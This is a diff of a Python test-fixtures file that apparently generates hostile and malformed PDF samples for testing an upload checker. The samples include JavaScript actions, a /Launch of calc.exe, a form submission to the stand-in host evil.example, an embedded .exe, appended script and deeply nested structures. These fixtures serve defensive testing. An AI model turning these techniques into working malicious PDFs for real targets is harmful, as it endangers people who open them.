@@ -57,10 +57,10 @@ def with_many_pages(count: int) -> bytes:
     )  # fmt: skip
 
 
-def locked() -> bytes:
-    """Return a PDF that opens without a password, but is encrypted."""
+def locked(to_open: str = "user") -> bytes:
+    """Return a PDF that opens with this password, or without one, but is encrypted."""
     writer = copy_into_new_writer(PdfFileReader(BytesIO(a_pdf())))
-    writer.encrypt("owner", "")
+    writer.encrypt("owner", to_open)
     written = BytesIO()
     writer.write(written)
     return written.getvalue()
@@ -119,6 +119,13 @@ _FILE = "<</Type /Filespec /F (a.exe) /EF <</F 9 0 R>>>>"
 _LARGE_JPEG = files.a_picture("JPEG", (64, 64)).replace(
     b"\x08\x00\x40\x00\x40", b"\x08\xfd\xe8\xfd\xe8", 1
 )
+#: PDFs with something that no viewer shows.
+BEHIND: dict[str, bytes] = {
+    "unused-script.pdf": a_pdf("", "", _ALERT),
+    "zip-behind.pdf": a_pdf() + files.a_zip(),
+    "html-behind.pdf": a_pdf() + b"<script>alert(1)</script>",
+    "junk-before.pdf": b"MZ\n" + a_pdf(),
+}
 #: What is a picture that may be a logo no longer, but is a fine document.
 _FINE = {"twelve-megapixels.png", "large.jpg", "too-large.png"}
 #: By name as uploaded. Many claim to be what they are not.
@@ -134,7 +141,6 @@ HOSTILE: dict[str, bytes] = {
     "page-script.pdf": a_pdf("", f"/AA <</O {_ALERT}>>"),
     "link-script.pdf": a_pdf("", _in_page(_ALERT)),
     "next-script.pdf": a_pdf("", _in_page(f"<</S /GoTo /D [3 0 R /Fit] /Next {_ALERT}>>")),
-    "unused-script.pdf": a_pdf("", "", _ALERT),
     "launch.pdf": a_pdf("/OpenAction <</S /Launch /F (calc.exe)>>"),
     "escaped-launch.pdf": a_pdf("/OpenAction <</S /L#61unch /F (calc.exe)>>"),
     "send-form.pdf": a_pdf("", _in_page("<</S /SubmitForm /F (https://evil.example/)>>")),
@@ -221,9 +227,6 @@ HOSTILE: dict[str, bytes] = {
     "circle.pdf": assembled({1: "<</Type /Catalog /Pages 1 0 R>>"}),
     "deep.pdf": a_pdf("/A " + "[" * 5000 + "]" * 5000),
     "half.pdf": a_pdf()[:200],
-    "wrong-offsets.pdf": a_pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n% x\n"),
-    "zip-behind.pdf": a_pdf() + files.a_zip(),
-    "html-behind.pdf": a_pdf() + b"<script>alert(1)</script>",
-    "junk-before.pdf": b"MZ\n" + a_pdf(),
+    "revision-cut.pdf": a_pdf() + b"9 0 obj\n<</Type /Page",
     "header-alone.pdf": b"%PDF-1.7\n%%EOF\n",
 }  # fmt: skip
